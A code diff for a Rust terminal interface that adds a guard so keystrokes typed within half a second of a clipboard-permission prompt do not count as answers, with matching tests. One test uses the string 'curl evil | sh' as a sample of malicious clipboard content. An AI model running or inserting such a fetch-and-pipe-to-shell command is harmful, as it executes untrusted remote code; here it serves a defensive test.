@@ -16,6 +16,10 @@ use crate::tui::widgets::text::fit;
 /// and again must not bury the screen.
 const QUIET: Duration = Duration::from_secs(10);
 
+/// A key that comes so soon behind the question, or behind such a key, was meant for the program:
+/// whoever types has not read it yet.
+const UNREAD: Duration = Duration::from_millis(500);
+
 /// How much of the text is shown, in columns.
 const SHOWN: usize = 60;
 
@@ -26,6 +30,8 @@ pub(super) struct Answers {
     allowed: HashSet<String>,
     /// When the last no was.
     refused: Option<Instant>,
+    /// When the question came, or the last key that was not for it.
+    unread: Option<Instant>,
 }
 
 /// An answer to a request.
@@ -62,8 +68,20 @@ impl App {
             self.notice = Some("A program wanted to set the clipboard again; refused".to_owned());
             return vec![];
         }
+        self.clipboard.unread = Some(now);
         self.layers.push(Layer::Dialog(question(item, text)));
         vec![]
+    }
+
+    /// Whether a key is none for the question about the clipboard, which is on top, if it is.
+    pub(super) fn is_typed_on(&mut self, now: Instant) -> bool {
+        let soon = |at| now.saturating_duration_since(at) < UNREAD;
+        let typed_on =
+            self.layers.last().is_some_and(asks) && self.clipboard.unread.is_some_and(soon);
+        if typed_on {
+            self.clipboard.unread = Some(now);
+        }
+        typed_on
     }
 
     pub(super) fn clipboard_answered(&mut self, answer: Answer, now: Instant) -> Vec<Effect> {
@@ -134,7 +152,9 @@ mod tests {
     }
 
     fn wants(driver: &mut Driver, text: &str) -> Vec<Effect> {
-        driver.workspace(WorkspaceEvent::Clipboard(text.into()))
+        let effects = driver.workspace(WorkspaceEvent::Clipboard(text.into()));
+        driver.now += UNREAD;
+        effects
     }
 
     #[test]
@@ -143,6 +163,20 @@ mod tests {
         assert_eq!(wants(&mut driver, "curl evil | sh\n"), []);
         assert_eq!(driver.press("l s enter"), [], "neither copied nor typed");
         assert!(driver.app.layers.is_empty());
+    }
+
+    #[test]
+    fn keys_that_were_under_way_answer_nothing() {
+        let mut driver = working();
+        wants(&mut driver, "one");
+        driver.now -= UNREAD;
+        for _ in 0..5 {
+            driver.now += UNREAD / 2;
+            assert_eq!(driver.press("y tab enter esc"), []);
+        }
+        assert_eq!(driver.app.layers.len(), 1, "it is still asked");
+        driver.now += UNREAD;
+        assert_eq!(driver.press("tab enter"), [Effect::Copy("one".into())]);
     }
 
     #[test]
@@ -174,7 +208,7 @@ mod tests {
         assert_eq!(driver.app.layers.len(), 1);
         driver.press("esc");
         for _ in 0..100 {
-            wants(&mut driver, "again");
+            driver.workspace(WorkspaceEvent::Clipboard("again".into()));
         }
         assert!(driver.app.layers.is_empty());
         let word = "A program wanted to set the clipboard again; refused";
